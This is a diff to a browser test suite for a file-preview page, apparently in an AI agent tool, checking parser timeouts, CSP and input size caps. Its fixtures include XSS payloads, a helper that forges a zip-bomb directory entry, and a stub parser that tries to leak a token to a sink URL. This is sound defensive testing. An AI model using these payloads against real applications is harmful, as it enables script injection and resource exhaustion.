@@ -6,7 +6,7 @@ import type { AddressInfo } from 'node:net'
 import type { Page, Worker } from 'playwright-core'
 import type { Test } from 'tap'
 import { chromiumOrSkip } from './chromium.js'
-import { docxWithLink, workbook } from './preview-fixtures.js'
+import { docx, docxWithLink, workbook } from './preview-fixtures.js'
 import { CHAT, open, setup, shot } from './preview-harness.js'
 
 declare const document: any // eslint-disable-line @typescript-eslint/no-explicit-any
@@ -25,8 +25,18 @@ async function hostileFixtures (): Promise<Record<string, string | Buffer>> {
     'hostile.docx': await docxWithLink('click me', 'javascript:window.__pwned=6'),
     'notes/overlay.md': OVERLAY_MD,
     'notes/spy.md': '# whatever the parser is given',
+    'notes/huge.md': 'x'.repeat(2 * 1024 * 1024 + 1),
+    'bomb.docx': declaredSize(await docx(['tiny', 'body']), 300 * 1024 * 1024),
     'src/hostile.py': 'def f():\n    return "</span><img src=x onerror=window.__pwned=8><span class=\\"banner\\">"\n'
   }
+}
+
+/** `zip` with its first central-directory entry claiming `size` uncompressed bytes (a zip bomb's directory). */
+function declaredSize (zip: Buffer, size: number): Buffer {
+  const at = zip.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]))
+  const out = Buffer.from(zip)
+  out.writeUInt32LE(size, at + 24)
+  return out
 }
 
 /** Centre of an element's box, for elementFromPoint. */
@@ -114,7 +124,7 @@ t.test('the parser worker holds no token: a compromised parser finds none and ca
       report.foreign = xhr(${JSON.stringify(`${sinkUrl}/xhr`)})
       try { importScripts(${JSON.stringify(`${sinkUrl}/leak?`)} + encodeURIComponent(JSON.stringify(report))) } catch {}
     })
-    self.marked = { parse: () => '<pre>' + JSON.stringify(report).replace(/&/g, '&amp;').replace(/</g, '&lt;') + '</pre>' }`
+    self.marked = { lexer: () => [{ raw: '' }], parser: () => '<pre>' + JSON.stringify(report).replace(/&/g, '&amp;').replace(/</g, '&lt;') + '</pre>' }`
   await context.route('**/static/vendor/marked/lib/marked.umd.js', route => route.fulfill({ status: 200, contentType: 'text/javascript', body: spy }))
   await page.goto(`${url}/preview/${CHAT}?t=${control}`)
   await page.waitForSelector('#file-list li[data-path="notes/spy.md"]')
@@ -137,12 +147,21 @@ t.test('the parser worker holds no token: a compromised parser finds none and ca
 
 t.test('a parser that hangs is terminated after parseTimeoutMs; the page says so and stays usable', chromiumOrSkip(), async t => {
   const { url, context, page, token } = await setup(t, await hostileFixtures(), 2000)
-  await context.route('**/static/vendor/marked/lib/marked.umd.js', route => route.fulfill({ status: 200, contentType: 'text/javascript', body: 'self.marked = { parse () { for (;;) {} } }' }))
+  await context.route('**/static/vendor/marked/lib/marked.umd.js', route => route.fulfill({ status: 200, contentType: 'text/javascript', body: 'self.marked = { lexer () { for (;;) {} } }' }))
   const workers: Worker[] = []
   const closed: Worker[] = []
   page.on('worker', worker => { workers.push(worker); worker.on('close', () => closed.push(worker)) })
   await page.goto(`${url}/preview/${CHAT}?t=${token}`)
   await page.waitForSelector('#file-list li[data-path="notes/spy.md"]')
+  // Selecting another file while the parser spins terminates it at once.
+  await page.click('#file-list li[data-path="notes/spy.md"] button')
+  await page.waitForFunction(() => document.querySelector('#preview .loading') !== null)
+  for (let i = 0; i < 50 && workers.length === 0; i++) await page.waitForTimeout(50)
+  const switched = Date.now()
+  await open(page, 'data/table.csv')
+  for (let i = 0; i < 50 && closed.length < workers.length; i++) await page.waitForTimeout(50)
+  t.equal(closed.length, workers.length, 'the abandoned parser was terminated')
+  t.ok(Date.now() - switched < 1900, 'before its time budget ran out')
   const started = Date.now()
   await page.click('#file-list li[data-path="notes/spy.md"] button')
   await page.waitForFunction(() => document.querySelector('#preview .loading') !== null)
@@ -158,8 +177,8 @@ t.test('a parser that hangs is terminated after parseTimeoutMs; the page says so
   t.ok(workers.length >= 1, 'a worker ran the parser')
   t.equal(closed.length, workers.length, 'and was terminated')
   await shot(page, 'parser-timeout')
-  await open(page, 'data/table.csv')
-  t.equal(await page.textContent('#preview table.sheet tbody td'), '1', 'the next document renders')
+  await open(page, 'data/hostile.xlsx')
+  t.equal(await page.$$eval('#preview table.sheet tbody tr', r => r.length), 1, 'the next document renders')
 })
 
 t.test('CSP: a <script src> of an agent file (or inline script) injected into the page is blocked', chromiumOrSkip(), async t => {
@@ -187,4 +206,22 @@ t.test('CSP: a <script src> of an agent file (or inline script) injected into th
   t.ok(violations.some(v => v.blocked === `${url}${evil}` && v.directive === 'script-src-elem'), 'securitypolicyviolation names evil.js')
   t.ok(violations.some(v => v.blocked === 'inline' && v.directive === 'script-src-elem'), 'and the inline script')
   t.ok(errors.some(e => e.includes(evil) && e.includes('Content Security Policy')), 'the console reports the refusal')
+})
+
+t.test('input caps: oversized files, zip bombs and bodies longer than listed are refused with a clear notice', chromiumOrSkip(), async t => {
+  const { url, page, token } = await setup(t, await hostileFixtures())
+  await page.goto(`${url}/preview/${CHAT}?t=${token}`)
+  await page.waitForSelector('#file-list li[data-path="bomb.docx"]')
+  await open(page, 'notes/huge.md')
+  t.equal(await page.textContent('#preview .notice h2'), 'Too large to preview here')
+  t.match(await page.textContent('#preview .notice p'), /huge\.md is larger than the preview limit of 2 MB/)
+  await open(page, 'bomb.docx')
+  t.equal(await page.textContent('#preview .notice h2'), 'Could not show a preview')
+  t.match(await page.textContent('#preview .notice p'), /bomb\.docx: it unpacks to more than 200 MB/, 'refused before inflating')
+  // The listing's size may be stale (the agent keeps writing): the page counts the body itself.
+  const refused = await page.evaluate(async ({ module, file }) => {
+    const { fetchBytes } = await import(module)
+    try { await fetchBytes(file, 4); return 'accepted' } catch (err) { return String(err) }
+  }, { module: '/static/preview/fetch-file.js', file: `/files/${CHAT}/~${token}/data/table.csv` })
+  t.equal(refused, 'TooLargeError: larger than the preview limit of 4 bytes')
 })
